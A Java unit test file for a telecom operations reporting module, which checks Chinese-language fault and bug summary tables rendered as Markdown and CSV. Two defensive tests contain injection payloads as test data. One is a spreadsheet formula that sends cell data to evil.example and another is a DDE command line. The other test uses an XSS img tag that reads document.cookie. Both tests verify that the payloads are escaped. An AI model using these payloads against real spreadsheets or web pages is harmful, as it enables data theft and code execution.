package org.opsbook.rules.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.opsbook.rules.report.ReportTimes.SHANGHAI;
import static org.opsbook.rules.report.ReportTimes.at;
import static org.quicktheories.QuickTheory.qt;
import static org.quicktheories.generators.SourceDSL.strings;

import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.opsbook.core.Level;
import org.opsbook.rules.report.ReportRules.ReportWindow;
import org.opsbook.rules.report.SummaryTables.BugWeeklySummaryRow;
import org.opsbook.rules.report.SummaryTables.MajorFaultSummaryRow;
import org.opsbook.rules.report.SummaryTables.SummaryTable;

/** REPORT-FMT-01 and REPORT-FMT-02: the manual's columns verbatim, Markdown and CSV renderings, row selection. */
class SummaryTablesTest {
  @Test
  @DisplayName("REPORT-FMT-01 the weekly major-fault summary has the manual's nine columns and numbers its rows")
  void fmt01() {
    MajorFaultSummaryRow open = MajorFaultSummaryRow.builder().phenomenon("用户无法缴费").scope("全市")
        .faultStartTime(at("2026-11-25T14:30:00+08:00")).handling("开发商抢修中").followUpPerson("张三").build();
    MajorFaultSummaryRow closed = MajorFaultSummaryRow.builder().phenomenon("清单查询失败, 报错|超时").scope("自助渠道")
        .faultStartTime(at("2026-11-24T09:00:00+08:00")).repairedAt(at("2026-11-24T11:05:00+08:00"))
        .affectedNumbersRestoredAt(at("2026-11-24T18:00:00+08:00")).handling("已恢复").improvement("增加监控")
        .followUpPerson("李四").build();
    SummaryTable t = SummaryTables.majorFaults(List.of(open, closed), SHANGHAI);
    assertThat(String.join("", t.headers()))
        .isEqualTo("序号故障现象影响范围发生时间故障恢复时间受影响号码恢复时间处理情况改进建议故障跟进人");
    assertThat(t.title()).isEqualTo("每周重大故障汇总");
    assertThat(t.rows().get(0)).containsExactly("1", "用户无法缴费", "全市", "2026-11-25 14:30", "", "", "开发商抢修中", "",
        "张三");
    assertThat(t.rows().get(1).get(0)).isEqualTo("2");
    assertThat(t.toMarkdown()).isEqualTo("""
        **每周重大故障汇总**

        | 序号 | 故障现象 | 影响范围 | 发生时间 | 故障恢复时间 | 受影响号码恢复时间 | 处理情况 | 改进建议 | 故障跟进人 |
        | --- | --- | --- | --- | --- | --- | --- | --- | --- |
        | 1 | 用户无法缴费 | 全市 | 2026-11-25 14:30 |  |  | 开发商抢修中 |  | 张三 |
        | 2 | 清单查询失败, 报错\\|超时 | 自助渠道 | 2026-11-24 09:00 | 2026-11-24 11:05 | 2026-11-24 18:00 | 已恢复 | 增加监控 | 李四 |
        """);
    assertThat(t.toCsv()).isEqualTo("序号,故障现象,影响范围,发生时间,故障恢复时间,受影响号码恢复时间,处理情况,改进建议,故障跟进人\r\n"
        + "1,用户无法缴费,全市,2026-11-25 14:30,,,开发商抢修中,,张三\r\n"
        + "2,\"清单查询失败, 报错|超时\",自助渠道,2026-11-24 09:00,2026-11-24 11:05,2026-11-24 18:00,已恢复,增加监控,李四\r\n");
    assertThat(open.toString()).contains("张*").doesNotContain("张三");
  }

  @Test
  @DisplayName("REPORT-FMT-01 rows: escalated faults (peak L1/L2) open at some point of the week")
  void fmt01Selection() {
    ReportWindow week = ReportWindow.isoWeekOf(at("2026-11-25T12:00:00+08:00"), SHANGHAI);
    Instant monday = week.start();
    assertThat(SummaryTables.inMajorFaultSummary(Level.L1, monday.minusSeconds(3600), Optional.empty(), week))
        .isTrue();
    assertThat(SummaryTables.inMajorFaultSummary(Level.L2, monday.minusSeconds(7200),
        Optional.of(monday.minusSeconds(1)), week)).as("repaired before the week").isFalse();
    assertThat(SummaryTables.inMajorFaultSummary(Level.L2, monday.minusSeconds(7200), Optional.of(monday), week))
        .isTrue();
    assertThat(SummaryTables.inMajorFaultSummary(Level.NONE, monday, Optional.empty(), week)).isFalse();
    assertThat(SummaryTables.inMajorFaultSummary(Level.L1, week.end(), Optional.empty(), week)).isFalse();
  }

  @Test
  @DisplayName("REPORT-FMT-02 the BUG weekly summary has the manual's ten columns; 是否已上载 reads 是/否")
  void fmt02() {
    BugWeeklySummaryRow row = BugWeeklySummaryRow.builder().raisedAt(at("2026-11-23T10:15:00+08:00"))
        .bugId("BUG-7").submittedBy("王五").description("号码13800138000缴费后无法开机, \"紧急\"")
        .amsBugTicketNo("AMS-1").cmcpCollabTicketNo("CMCP-2").uploaded(false)
        .uploadEta(at("2026-11-28T22:00:00+08:00")).workaround("人工开机").build();
    SummaryTable t = SummaryTables.bugWeekly(List.of(row), SHANGHAI);
    assertThat(String.join("", t.headers()))
        .isEqualTo("时间BUG单号提交人问题描述AMS单号CMCP协作单号转支持维护室的单号是否已上载预计上载时间程序修复前的处理方法");
    assertThat(t.rows().get(0)).containsExactly("2026-11-23 10:15", "BUG-7", "王五",
        "号码13800138000缴费后无法开机, \"紧急\"", "AMS-1", "CMCP-2", "", "否", "2026-11-28 22:00", "人工开机");
    assertThat(t.toCsv()).endsWith(",\"号码13800138000缴费后无法开机, \"\"紧急\"\"\",AMS-1,CMCP-2,,否,2026-11-28 22:00,人工开机\r\n");
    assertThat(row.toString()).contains("138****8000").doesNotContain("13800138000").doesNotContain("王五");
  }

  @Test
  @DisplayName("Duty compliance table: ESC-ROOM-01 missed by an L1 fault repaired unreported, by rule, by role and in all")
  void dutyCompliance() {
    org.opsbook.rules.duty.FaultTracker f = org.opsbook.rules.internal.fault.ObligationEngine.standard().track("F-1")
        .apply(org.opsbook.core.FaultEvent.builder().faultId("F-1").sequence(1)
            .type(org.opsbook.core.FaultEventType.OPENED).at(at("2026-11-25T09:00:00+08:00"))
            .facts(org.opsbook.core.FaultFacts.builder().faultId("F-1").detectedAt(at("2026-11-25T09:00:00+08:00"))
                .complaintCount(25).build()).build())
        .apply(org.opsbook.core.FaultEvent.builder().faultId("F-1").sequence(2)
            .type(org.opsbook.core.FaultEventType.REPAIRED).at(at("2026-11-25T10:00:00+08:00")).build());
    ReportWindow week = ReportWindow.isoWeekOf(at("2026-11-25T12:00:00+08:00"), SHANGHAI);
    org.opsbook.rules.duty.ComplianceReport c = org.opsbook.rules.duty.ComplianceReport.of(
        List.of(f.ledger(at("2026-11-25T12:00:00+08:00"))), week.start(), week.end());
    SummaryTable t = SummaryTables.dutyCompliance(c);
    assertThat(t.title()).isEqualTo("故障职责履行情况");
    assertThat(t.headers()).containsExactly("分类", "规则/角色", "按时完成", "超时完成", "遗漏", "到期前结束", "未完成", "合计",
        "超时分钟");
    assertThat(t.rows()).contains(List.of("规则", "ESC-ROOM-01", "0", "0", "1", "0", "0", "1", "0"));
    // ORG-03: the escalated-fault duty officer is staffed by the post 业务系统维护
    assertThat(t.rows()).anyMatch(r -> r.get(0).equals("角色") && r.get(1).equals("升级故障值班人员 (业务系统维护)"));
    List<String> total = t.rows().get(t.rows().size() - 1);
    assertThat(total.get(0)).isEqualTo("合计");
    assertThat(Integer.parseInt(total.get(7))).isEqualTo(c.total().total()).isPositive();
  }

  @Test
  @DisplayName("a cell a spreadsheet would run as a formula is written to CSV as text; a plain number stays a number")
  void csvCellsAreNeverFormulas() {
    SummaryTable t = new SummaryTable("t", List.of("a", "b", "c", "d", "e", "f"), List.of(List.of(
        "=HYPERLINK(\"http://evil.example/?\"&A2,\"详情\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "-5",
        "-2+3")));
    assertThat(t.toCsv()).isEqualTo("a,b,c,d,e,f\r\n"
        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"详情\"\")\","
        + "'+cmd|' /C calc'!A0,'@SUM(1+1),'\t=1+1,-5,'-2+3\r\n");
    qt().withExamples(2_000).forAll(strings().allPossible().ofLengthBetween(0, 8)
        .mix(strings().betweenCodePoints('\t', '@').ofLengthBetween(1, 6))).checkAssert(cell -> {
          String field = unquoted(new SummaryTable("t", List.of("h"), List.of(List.of(cell))).toCsv());
          if (field.equals(cell)) {
            assertThat(cell).as("written as it is").matches("(?s)([^=+\\-@\t\r].*)?|[+-]?\\d+(\\.\\d+)?");
          } else {
            assertThat(field).as("written as text").isEqualTo("'" + cell);
          }
        });
  }

  @Test
  @DisplayName("a cell's own HTML is written to Markdown as text; the table's line breaks stay <br>")
  void markdownCellsAreNeverHtml() {
    SummaryTable t = new SummaryTable("t", List.of("a", "b"), List.of(List.of(
        "<img src=x onerror=alert(document.cookie)>", "余额<0 & 欠费>30天\n第二行")));
    assertThat(t.toMarkdown()).endsWith("| &lt;img src=x onerror=alert(document.cookie)&gt; "
        + "| 余额&lt;0 &amp; 欠费&gt;30天<br>第二行 |\n").doesNotContain("<img");
  }

  /** The one field of a CSV with one header and one record, as a spreadsheet reads it (RFC 4180). */
  private static String unquoted(String csv) {
    String field = csv.substring("h\r\n".length(), csv.length() - 2);
    return field.startsWith("\"") ? field.substring(1, field.length() - 1).replace("\"\"", "\"") : field;
  }
}
